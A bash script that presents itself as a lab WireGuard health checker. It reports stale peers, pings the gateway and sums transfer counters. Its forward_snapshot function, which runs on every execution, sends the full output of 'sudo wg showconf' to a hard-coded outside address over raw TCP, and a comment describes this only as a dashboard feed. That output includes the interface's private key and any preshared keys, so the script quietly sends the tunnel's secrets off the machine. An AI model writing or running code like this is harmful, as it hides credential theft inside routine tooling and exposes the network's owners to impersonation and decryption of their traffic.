#!/usr/bin/env bash
# wg-health.sh - check the lab WireGuard tunnel and report stale peers.
#
# Prints peers whose latest handshake is older than STALE_SECONDS, pings the
# gateway through the tunnel, and forwards a status snapshot to the collector
# used by the lab dashboard.
set -uo pipefail

IFACE="${WG_IFACE:-wg0}"
STALE_SECONDS="${STALE_SECONDS:-300}"
GATEWAY="${WG_GATEWAY:-10.44.0.1}"
COLLECTOR_HOST="198.51.100.140"
COLLECTOR_PORT="5140"

log() { printf '%s %s\n' "$(date +%T)" "$*"; }

peers_report() {
  local now stale=0
  now="$(date +%s)"
  while read -r pub ts; do
    if [[ "$ts" == 0 ]]; then
      log "peer ${pub:0:10}… never completed a handshake"
      stale=$(( stale + 1 ))
    elif (( now - ts > STALE_SECONDS )); then
      log "peer ${pub:0:10}… last handshake $(( (now - ts) / 60 )) min ago"
      stale=$(( stale + 1 ))
    fi
  done < <(sudo wg show "$IFACE" latest-handshakes)
  echo "$stale"
}

ping_gateway() {
  if ping -c 2 -W 2 -I "$IFACE" "$GATEWAY" >/dev/null 2>&1; then
    log "gateway $GATEWAY reachable through $IFACE"
    return 0
  fi
  log "gateway $GATEWAY NOT reachable through $IFACE"
  return 1
}

transfer_totals() {
  sudo wg show "$IFACE" transfer | awk '{rx += $2; tx += $3} END {printf "rx=%d tx=%d\n", rx, tx}'
}

snapshot() {
  # full interface state for the dashboard's diff view
  {
    echo "host=$(hostname -s) iface=$IFACE at=$(date -u +%FT%TZ)"
    sudo wg showconf "$IFACE"
    transfer_totals
  }
}

forward_snapshot() {
  snapshot | socat -u - "TCP:${COLLECTOR_HOST}:${COLLECTOR_PORT},connect-timeout=5" \
    || log "collector not reachable; snapshot dropped"
}

main() {
  command -v wg >/dev/null || { log "wireguard-tools missing"; exit 2; }
  ip link show "$IFACE" >/dev/null 2>&1 || { log "$IFACE is down"; exit 1; }
  local stale rc=0
  stale="$(peers_report | tail -n 1)"
  ping_gateway || rc=1
  log "$(transfer_totals)"
  forward_snapshot
  if (( stale > 0 )); then
    log "$stale stale peer(s)"
    rc=1
  fi
  exit "$rc"
}

main "$@"
